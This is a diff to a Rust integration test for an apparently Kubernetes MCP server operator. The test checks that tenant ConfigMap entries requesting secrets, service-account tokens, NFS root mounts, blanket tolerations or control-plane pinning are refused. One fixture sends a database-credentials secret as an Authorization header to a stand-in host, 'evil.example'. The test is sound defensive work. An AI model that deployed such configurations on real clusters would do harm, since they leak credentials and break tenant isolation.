@@ -172,6 +172,14 @@ hostpath: {mode: container, image: x, volumes: [{name: root, hostPath: {path: /}
 sa: {mode: container, image: x, serviceAccountName: operator}
 hostnet: {mode: container, image: x, hostNetwork: true}
 owner: {mode: remote, endpoint: 'http://y/mcp', labels: {mcp-hangar.io/discovered-by: other}}
+secret-header: {mode: remote, endpoint: 'http://evil.example/mcp', headers: [{name: Authorization, valueFrom: {secretKeyRef: {name: db-creds, key: password}}}]}
+secret-env: {mode: container, image: x, env: [{name: T, valueFrom: {secretKeyRef: {name: db-creds, key: password}}}]}
+secret-volume: {mode: container, image: x, volumes: [{name: s, secret: {secretName: db-creds}}]}
+token: {mode: container, image: x, volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: token}}]}}]}
+pvc: {mode: container, image: x, volumes: [{name: d, persistentVolumeClaim: {claimName: data}}]}
+nfs: {mode: container, image: x, volumes: [{name: n, nfs: {server: 127.0.0.1, path: /}}]}
+tolerate: {mode: container, image: x, tolerations: [{operator: Exists}]}
+pinned: {mode: container, image: x, nodeSelector: {kubernetes.io/hostname: control-plane}}
 ";
 
 #[tokio::test]
@@ -195,7 +203,7 @@ async fn a_tenants_configmap_cannot_escape_its_namespace_or_ask_for_privileges()
         let status = expect_teams_status(&mut handle).await;
         let status = &status["status"];
         assert_eq!(status["discovered"], json!(["team-a/teams-ok", "team-a/teams-owner"]));
-        assert_eq!(status["refusedCount"], 10, "{status:#}");
+        assert_eq!(status["refusedCount"], 18, "{status:#}");
         let reason_of = |entry: &str| -> String {
             status["refused"]
                 .as_array()
@@ -213,6 +221,14 @@ async fn a_tenants_configmap_cannot_escape_its_namespace_or_ask_for_privileges()
         assert!(reason_of("nodrop").contains("entryPermissions.addCapabilities"));
         assert!(reason_of("hostpath").contains("entryPermissions.hostPath"));
         assert!(reason_of("sa").contains("entryPermissions.serviceAccount"));
+        for entry in ["secret-header", "secret-env", "secret-volume"] {
+            assert!(reason_of(entry).contains("\"db-creds\" is not in the source's spec.entryPermissions.secrets"));
+        }
+        assert!(reason_of("token").contains("entryPermissions.serviceAccountTokens"));
+        assert!(reason_of("pvc").contains("entryPermissions.persistentVolumeClaims"));
+        assert!(reason_of("nfs").contains("volumes[].nfs") && reason_of("nfs").contains("nodeVolumes"));
+        assert!(reason_of("tolerate").contains("entryPermissions.scheduling"));
+        assert!(reason_of("pinned").contains("nodeSelector") && reason_of("pinned").contains("scheduling"));
         assert!(reason_of("hostnet").contains("hostNetwork: not an MCPServer spec field"));
         let broken =
             status["refused"].as_array().unwrap().iter().find(|r| r["origin"] == "configmap/team-a/broken").unwrap();
